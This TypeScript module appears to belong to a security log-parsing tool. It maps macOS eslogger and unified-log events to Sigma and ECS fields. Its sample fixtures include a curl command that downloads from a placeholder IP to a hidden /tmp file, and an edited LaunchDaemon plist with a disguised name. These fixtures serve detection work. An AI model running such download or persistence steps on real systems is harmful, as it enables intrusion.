import type { Fields, Value } from '../../event.js';
import { mappedFormat } from './shared/mapped.js';
import { at, firstText, text } from './shared/values.js';

const MAX_ARGUMENTS = 1000;

/** A command line as a shell would show it: the arguments with blanks between. */
function commandLine(fields: Fields): string | undefined {
  const list = at(fields, 'event', 'exec', 'args');
  if (!Array.isArray(list)) return undefined;
  return text(
    list
      .slice(0, MAX_ARGUMENTS)
      .map((part) => text(part) ?? '')
      .join(' '),
  );
}

/** A file that is made is named by its folder and name until it exists. */
function created(destination: Value): string | undefined {
  const folder = text(at(destination, 'new_path', 'dir', 'path'));
  const name = text(at(destination, 'new_path', 'filename'));
  if (folder !== undefined && name !== undefined) return `${folder === '/' ? '' : folder}/${name}`;
  return text(at(destination, 'existing_file', 'path'));
}

/** The file that an event is about. */
function fileOf(event: Value): string | undefined {
  return (
    created(at(event, 'create', 'destination')) ??
    created(at(event, 'rename', 'destination')) ??
    firstText(
      at(event, 'write', 'target', 'path'),
      at(event, 'close', 'target', 'path'),
      at(event, 'unlink', 'target', 'path'),
    )
  );
}

const PRIVATE = /^\/private(?=\/(?:tmp|var|etc)\/)/;

export default mappedFormat({
  name: 'macos',
  summary: 'macOS: Endpoint Security events (eslogger) and the unified log (log stream --style ndjson)',
  keys: ['event', 'event_type', 'eventMessage'],
  priority: 62,
  complete(fields) {
    const command = commandLine(fields);
    if (command !== undefined) fields.CommandLine = command;
    const path = fileOf(fields.event);
    if (path !== undefined) {
      fields.path = path;
      const short = path.replace(PRIVATE, '');
      fields.TargetFilename = short === path ? path : [path, short];
    }
    const user = at(fields, 'process', 'audit_token', 'euid');
    if (user === 0) fields.userOfProcess = 'root';
    else if (typeof user === 'number') fields.userOfProcess = String(user);
  },
  samples: [
    {
      line: '{"schema_version":1,"mach_time":900,"event_type":9,"time":"2026-03-04T08:00:00.123456789Z","action_type":1,"seq_num":1,"process":{"ppid":700,"executable":{"path":"/bin/bash","path_truncated":false},"signing_id":"com.apple.bash","is_platform_binary":true,"audit_token":{"pid":811,"euid":501,"ruid":501}},"event":{"exec":{"target":{"executable":{"path":"/usr/bin/curl"},"signing_id":"com.apple.curl","cdhash":"C0","audit_token":{"pid":811,"euid":501}},"args":["curl","-o","/tmp/.x","http://198.51.100.9/x"],"env":[],"cwd":{"path":"/Users/marta"}}}}',
      logsource: { product: 'macos', category: 'process_creation' },
      ecs: {
        '@timestamp': '2026-03-04T08:00:00.123Z',
        'process.executable': '/usr/bin/curl',
        'process.command_line': 'curl -o /tmp/.x http://198.51.100.9/x',
        'process.parent.executable': '/bin/bash',
        'process.pid': 811,
        'user.name': '501',
      },
      fields: { Image: '/usr/bin/curl', ParentImage: '/bin/bash', CurrentDirectory: '/Users/marta' },
    },
    {
      line: '{"schema_version":1,"event_type":13,"time":"2026-03-04T08:00:01Z","process":{"executable":{"path":"/usr/bin/curl"},"audit_token":{"pid":811,"euid":0}},"event":{"create":{"destination_type":1,"destination":{"new_path":{"dir":{"path":"/private/tmp"},"filename":"6202033","mode":33188}}}}}',
      logsource: { product: 'macos', category: 'file_event' },
      ecs: { 'file.path': '/private/tmp/6202033', 'user.name': 'root', 'process.executable': '/usr/bin/curl' },
      fields: { TargetFilename: ['/private/tmp/6202033', '/tmp/6202033'] },
    },
    {
      line: '{"event_type":12,"time":"2026-03-04T08:00:02Z","process":{"executable":{"path":"/usr/bin/vim"},"audit_token":{"pid":900,"euid":501}},"event":{"close":{"modified":true,"target":{"path":"/Library/LaunchDaemons/com.finder.helper.plist"}}}}',
      logsource: { product: 'macos', category: 'file_event' },
      ecs: { 'file.path': '/Library/LaunchDaemons/com.finder.helper.plist' },
    },
    {
      line: '{"event_type":112,"time":"2026-03-04T08:00:03Z","process":{"executable":{"path":"/usr/libexec/XProtectService"},"audit_token":{"pid":100,"euid":0}},"event":{"xp_malware_detected":{"signature_version":"2180","malware_identifier":"MACOS.6e12a3e","incident_identifier":"I1","detected_path":"/Users/marta/Downloads/x.app"}}}',
      logsource: { product: 'macos', category: 'antivirus' },
      ecs: { 'rule.name': 'MACOS.6e12a3e', 'file.path': '/Users/marta/Downloads/x.app' },
    },
    {
      line: '{"event_type":131,"time":"2026-03-04T08:00:04Z","process":{"executable":{"path":"/usr/sbin/sshd"},"audit_token":{"pid":321,"euid":0}},"event":{"openssh_login":{"success":false,"result_type":8,"source_address_type":1,"source_address":"203.0.113.9","username":"admin","has_uid":false}}}',
      logsource: { product: 'macos' },
      ecs: { 'user.name': 'admin', 'source.ip': '203.0.113.9', 'event.outcome': 'failure' },
    },
    {
      line: '{"traceID":4,"eventMessage":"AUTHREQ_ATTRIBUTION: msgID=1","eventType":"logEvent","formatString":"%s","subsystem":"com.apple.TCC","category":"access","threadID":9,"processImagePath":"/System/Library/PrivateFrameworks/TCC.framework/Support/tccd","timestamp":"2026-03-04 09:00:05.123456+0100","machTimestamp":1,"messageType":"Default","processID":501}',
      logsource: { product: 'macos' },
      ecs: {
        '@timestamp': '2026-03-04T08:00:05.123Z',
        'process.name': 'tccd',
        message: 'AUTHREQ_ATTRIBUTION: msgID=1',
      },
    },
  ],
});
